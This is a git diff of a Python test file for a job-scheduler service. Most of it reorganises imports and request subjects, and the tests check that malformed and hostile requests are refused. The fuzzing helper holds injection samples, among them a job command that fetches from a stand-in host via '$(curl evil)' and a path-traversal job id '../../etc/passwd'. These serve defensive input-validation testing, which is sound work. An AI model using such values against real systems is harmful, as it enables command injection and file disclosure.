@@ -25,32 +25,61 @@ from libs.contracts import subjects
 from libs.contracts.codec import decode, encode
 from libs.contracts.events import EventEnvelope, JobSubmitted
 from libs.contracts.identity import Identity
-from libs.contracts.messages import (
+from libs.contracts.operations.cluster import (
+    CHANGE_SETTINGS,
+    GET_RESOURCES,
+    GET_SETTINGS,
+    LIST_FLAVORS,
+    LIST_NODES,
+    LIST_STORAGE_ACCESS,
+    SET_STORAGE_ACCESS,
+    WHOAMI,
+    ChangeSettings,
+    GetResources,
+    GetSettings,
+    ListFlavors,
+    ListNodes,
+    ListStorageAccess,
+    SetStorageAccess,
+    WhoAmI,
+)
+from libs.contracts.operations.jobs import (
+    CHANGE_DURATION,
+    CHANGE_PRIORITY,
+    CLONE_JOB,
+    DELETE_JOBS,
+    GET_DEV_ENV,
+    GET_JOB,
+    GET_QUEUE,
+    JOB_HISTORY,
+    JOB_LOGS,
+    JOB_USAGE,
+    LIST_JOBS,
+    SEARCH_JOBS,
+    STOP_JOBS,
+    SUBMIT_JOB,
     ChangeDuration,
     ChangePriority,
-    ChangeSettings,
     CloneJob,
     DeleteJobs,
-    ExplainJob,
     GetDevEnv,
     GetJob,
     GetJobHistory,
     GetJobLogs,
     GetJobUsage,
     GetQueue,
-    GetResources,
-    GetSettings,
-    ListFlavors,
     ListJobs,
-    ListNodes,
-    ListStorageAccess,
-    PredictJob,
     SearchJobs,
-    SetStorageAccess,
-    SimulateHistory,
     StopJobs,
     SubmitJob,
-    WhoAmI,
+)
+from libs.contracts.operations.planning import (
+    EXPLAIN_JOB,
+    PREDICT_JOB,
+    SIMULATE,
+    ExplainJob,
+    PredictJob,
+    SimulateHistory,
 )
 from libs.eventstore import EventStore, NewEvent
 from libs.eventstore import store as store_module
@@ -66,35 +95,35 @@ pytestmark = pytest.mark.asyncio(loop_scope="session")
 JOB = "job-0123456789ab"
 # A valid request for every subject the scheduler serves (commands, queries, logs).
 REQUESTS: dict[str, msgspec.Struct] = {
-    subjects.SUBMIT_JOB: SubmitJob(job_id=JOB, spec=spec()),
-    subjects.CLONE_JOB: CloneJob(source_job_id=JOB, job_id="job-0123456789ac"),
-    subjects.STOP_JOBS: StopJobs(job_ids=[JOB]),
-    subjects.DELETE_JOBS: DeleteJobs(job_ids=[JOB]),
-    subjects.CHANGE_PRIORITY: ChangePriority(job_id=JOB, priority="urgent"),
-    subjects.CHANGE_DURATION: ChangeDuration(job_id=JOB, duration="1h"),
-    subjects.CHANGE_SETTINGS: ChangeSettings(urgent_cap=3),
-    subjects.SET_STORAGE_ACCESS: SetStorageAccess(kind="output", name="out", project="default", others="none"),
-    subjects.LIST_JOBS: ListJobs(),
-    subjects.GET_JOB: GetJob(job_id=JOB),
-    subjects.LIST_NODES: ListNodes(),
-    subjects.GET_QUEUE: GetQueue(),
-    subjects.SIMULATE: SimulateHistory(start=datetime(2026, 11, 1, tzinfo=UTC)),
-    subjects.PREDICT_JOB: PredictJob(spec=spec()),
-    subjects.EXPLAIN_JOB: ExplainJob(job_id=JOB),
-    subjects.GET_DEV_ENV: GetDevEnv(job_id=JOB),
-    subjects.JOB_HISTORY: GetJobHistory(job_id=JOB),
-    subjects.SEARCH_JOBS: SearchJobs(),
-    subjects.GET_RESOURCES: GetResources(flavors=["cpu-1"]),
-    subjects.LIST_FLAVORS: ListFlavors(),
-    subjects.GET_SETTINGS: GetSettings(),
-    subjects.WHOAMI: WhoAmI(),
-    subjects.LIST_STORAGE_ACCESS: ListStorageAccess(),
-    subjects.JOB_LOGS: GetJobLogs(job_id=JOB),
-    subjects.JOB_USAGE: GetJobUsage(job_id=JOB),
+    SUBMIT_JOB.subject: SubmitJob(job_id=JOB, spec=spec()),
+    CLONE_JOB.subject: CloneJob(source_job_id=JOB, job_id="job-0123456789ac"),
+    STOP_JOBS.subject: StopJobs(job_ids=[JOB]),
+    DELETE_JOBS.subject: DeleteJobs(job_ids=[JOB]),
+    CHANGE_PRIORITY.subject: ChangePriority(job_id=JOB, priority="urgent"),
+    CHANGE_DURATION.subject: ChangeDuration(job_id=JOB, duration="1h"),
+    CHANGE_SETTINGS.subject: ChangeSettings(urgent_cap=3),
+    SET_STORAGE_ACCESS.subject: SetStorageAccess(kind="output", name="out", project="default", others="none"),
+    LIST_JOBS.subject: ListJobs(),
+    GET_JOB.subject: GetJob(job_id=JOB),
+    LIST_NODES.subject: ListNodes(),
+    GET_QUEUE.subject: GetQueue(),
+    SIMULATE.subject: SimulateHistory(start=datetime(2026, 11, 1, tzinfo=UTC)),
+    PREDICT_JOB.subject: PredictJob(spec=spec()),
+    EXPLAIN_JOB.subject: ExplainJob(job_id=JOB),
+    GET_DEV_ENV.subject: GetDevEnv(job_id=JOB),
+    JOB_HISTORY.subject: GetJobHistory(job_id=JOB),
+    SEARCH_JOBS.subject: SearchJobs(),
+    GET_RESOURCES.subject: GetResources(flavors=["cpu-1"]),
+    LIST_FLAVORS.subject: ListFlavors(),
+    GET_SETTINGS.subject: GetSettings(),
+    WHOAMI.subject: WhoAmI(),
+    LIST_STORAGE_ACCESS.subject: ListStorageAccess(),
+    JOB_LOGS.subject: GetJobLogs(job_id=JOB),
+    JOB_USAGE.subject: GetJobUsage(job_id=JOB),
 }
-COMMANDS_ON_A_JOB = {subjects.CLONE_JOB, subjects.STOP_JOBS, subjects.DELETE_JOBS, subjects.CHANGE_PRIORITY,
-                     subjects.CHANGE_DURATION, subjects.GET_JOB, subjects.EXPLAIN_JOB, subjects.GET_DEV_ENV,
-                     subjects.JOB_HISTORY, subjects.JOB_LOGS, subjects.JOB_USAGE}
+COMMANDS_ON_A_JOB = {CLONE_JOB.subject, STOP_JOBS.subject, DELETE_JOBS.subject, CHANGE_PRIORITY.subject,
+                     CHANGE_DURATION.subject, GET_JOB.subject, EXPLAIN_JOB.subject, GET_DEV_ENV.subject,
+                     JOB_HISTORY.subject, JOB_LOGS.subject, JOB_USAGE.subject}
 NESTED = b"[" * 1000 + b"]" * 1000  # 2 KB
 
 
@@ -130,7 +159,7 @@ async def test_a_megabyte_env_value_is_refused_and_later_jobs_are_recorded_and_p
     assert await job_submitted_is_published(client.nc, accepted.job_id)
 
 
-@pytest.mark.parametrize("subject", [subjects.SUBMIT_JOB, subjects.LIST_JOBS])
+@pytest.mark.parametrize("subject", [SUBMIT_JOB.subject, LIST_JOBS.subject])
 async def test_deeply_nested_brackets_get_invalid_request(client: TrainyardClient, subject: str) -> None:
     reply = await reply_to(client.nc, subject, NESTED, bearer_headers(client.token))
     assert (reply["type"], reply["code"]) == ("Error.v1", "invalid-request")
@@ -175,9 +204,9 @@ async def test_a_command_whose_reply_subject_is_not_the_callers_inbox_is_neither
     try:
         await watcher.subscribe(lure, cb=on_lure)  # this server enforces no permissions: anyone may listen
         await round_trip(watcher)
-        await client.nc.publish(subjects.SUBMIT_JOB, encode(SubmitJob(job_id=JOB, spec=spec())), reply=lure,
+        await client.nc.publish(SUBMIT_JOB.subject, encode(SubmitJob(job_id=JOB, spec=spec())), reply=lure,
                                 headers=bearer_headers(client.token))
-        await refusals.counted(subjects.SUBMIT_JOB, 1)
+        await refusals.counted(SUBMIT_JOB.subject, 1)
         await round_trip(watcher)
         assert arrived == []
     finally:
@@ -185,7 +214,7 @@ async def test_a_command_whose_reply_subject_is_not_the_callers_inbox_is_neither
     assert await store.last_position() == before
     accepted = await client.submit(spec(name="asked-in-her-own-inbox"))
     assert await job_submitted_is_published(client.nc, accepted.job_id)
-    assert refusals.count(subjects.SUBMIT_JOB) == 1
+    assert refusals.count(SUBMIT_JOB.subject) == 1
 
 
 async def test_the_store_refuses_an_event_over_its_maximum(make_store: StoreFactory) -> None:
@@ -225,7 +254,7 @@ def wrong_type(value: Any) -> Any:
 def hostile_value(subject: str, draw: st.DrawFn) -> dict[str, Any]:
     """A well-formed request whose field values must be refused."""
     request: dict[str, Any] = msgspec.to_builtins(REQUESTS[subject])
-    if subject in (subjects.SUBMIT_JOB, subjects.PREDICT_JOB):
+    if subject in (SUBMIT_JOB.subject, PREDICT_JOB.subject):
         hostile: dict[str, Any] = draw(st.sampled_from([{"env": {"BIG": "x" * draw(st.integers(40_000, 900_000))}},
                                         {"command": "KEY=1 python3 $(curl evil)"},
                                         {"command": "a" * 70_000}, {"nodes": 10**9}, {"name": "x" * 300},
@@ -234,9 +263,9 @@ def hostile_value(subject: str, draw: st.DrawFn) -> dict[str, Any]:
     elif subject in COMMANDS_ON_A_JOB:
         job_id = draw(st.sampled_from(["job-ffffffffffff", "../../etc/passwd", "*", ">", "job-" + "f" * 5000]))
         request["job_ids" if "job_ids" in request else "job_id"] = [job_id] if "job_ids" in request else job_id
-    elif subject == subjects.CHANGE_SETTINGS:
+    elif subject == CHANGE_SETTINGS.subject:
         request["urgent_cap"] = draw(st.integers(-10**6, -1))
-    elif subject == subjects.SET_STORAGE_ACCESS:
+    elif subject == SET_STORAGE_ACCESS.subject:
         request["project"] = draw(st.sampled_from(["not-my-project", "x" * 10_000]))
     else:
         request["unexpected"] = "x" * draw(st.integers(0, 10_000))
